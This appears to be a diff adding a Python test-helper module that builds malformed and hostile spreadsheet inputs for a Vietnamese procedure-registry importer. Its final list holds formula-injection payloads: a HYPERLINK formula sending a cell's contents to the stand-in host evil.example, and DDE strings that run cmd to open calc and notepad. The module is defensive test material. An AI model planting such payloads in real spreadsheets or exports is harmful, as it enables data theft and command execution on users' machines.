@@ -1,0 +1,78 @@
+"""Hostile files for the registry importer's tests, made on the spot: a ``.xlsx`` that is no
+zip, an Excel 97–2003 file, a zip with no workbook, a damaged workbook, Excel's «Unicode
+Text», a workbook with formula cells, and cells a spreadsheet would run as formulas."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from pathlib import Path
+
+from openpyxl import Workbook
+
+DATA = Path(__file__).resolve().parent / "registry" / "data"
+SAMPLE = DATA / "sample_tthc_list.csv"
+LIST = ("Mã TTHC,Tên TTHC,Cấp thực hiện,Thời hạn giải quyết,Số quyết định\n"
+        "1.000001,Thủ tục một,Cấp tỉnh,20 ngày,10/QĐ-UBND\n"
+        "1.000002,Thủ tục hai,Cấp tỉnh,5 ngày làm việc,10/QĐ-UBND\n"
+        "1.000002,Thủ tục hai,Cấp xã,5 ngày làm việc,10/QĐ-UBND\n"
+        "3000410,Thủ tục ba,Cấp xã,3 ngày làm việc,10/QĐ-UBND\n")
+
+
+def no_workbook_zip() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("readme.txt", "nothing here")
+    return out.getvalue()
+
+
+def damaged_workbook() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types")
+        archive.writestr("xl/workbook.xml", "<<< not xml")
+    return out.getvalue()
+
+
+HOSTILE_WORKBOOKS = {
+    "text.xlsx": (b"STT,Ma TTHC\n1,1.000001\n", "không phải sổ tính Excel (.xlsx)"),
+    "old.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Excel 97–2003 (.xls)"),
+    "empty-zip.xlsx": (no_workbook_zip(), "không chứa sổ tính Excel"),
+    "damaged.xlsx": (damaged_workbook(), "bị hỏng"),
+}
+
+def excel_unicode_text() -> str:
+    """The sample list as Excel's «Unicode Text» writes it: tab-separated, CRLF lines."""
+    rows = list(csv.reader(io.StringIO(SAMPLE.read_text(encoding="utf-8"))))
+    out = io.StringIO()
+    csv.writer(out, delimiter="\t", lineterminator="\r\n").writerows(rows)
+    return out.getvalue()
+
+def workbook_with_formulas(path: Path, kept: dict[str, str] | None = None) -> None:
+    """A list whose time limit (E2) and code (B4) are formulas; ``kept``: cell → the result
+    Excel keeps, written into the sheet as Excel would after a save."""
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["STT", "Mã TTHC", "Tên TTHC", "Cấp thực hiện", "Thời hạn giải quyết"])
+    sheet.append([1, "1.000001", "Cấp giấy phép", "Cấp tỉnh", '=CONCATENATE(20," ngày")'])
+    sheet.append([2, "1.000002", "Cấp lại giấy phép", "Cấp tỉnh", "15 ngày làm việc"])
+    sheet.append([3, '="1.000003"', "Gia hạn giấy phép", "Cấp tỉnh", "10 ngày làm việc"])
+    book.save(path)
+    if not kept:
+        return
+    with zipfile.ZipFile(path) as archive:
+        parts = {n: archive.read(n) for n in archive.namelist()}
+    xml = parts["xl/worksheets/sheet1.xml"].decode()
+    for cell, value in kept.items():
+        xml = re.sub(rf'(<c r="{cell}")([^>]*)>(<f>.*?</f>)(<v>.*?</v>|<v\s*/>)?</c>',
+                     rf'\1 t="str"\2>\3<v>{value}</v></c>', xml)
+    parts["xl/worksheets/sheet1.xml"] = xml.encode()
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+              "@SUM(1+1)*cmd|' /C calc'!A0",
+              "+Đất đai", "-Sở Xây dựng", "=cmd|' /C notepad'!'A1'", "\tTab", "\rCR"]
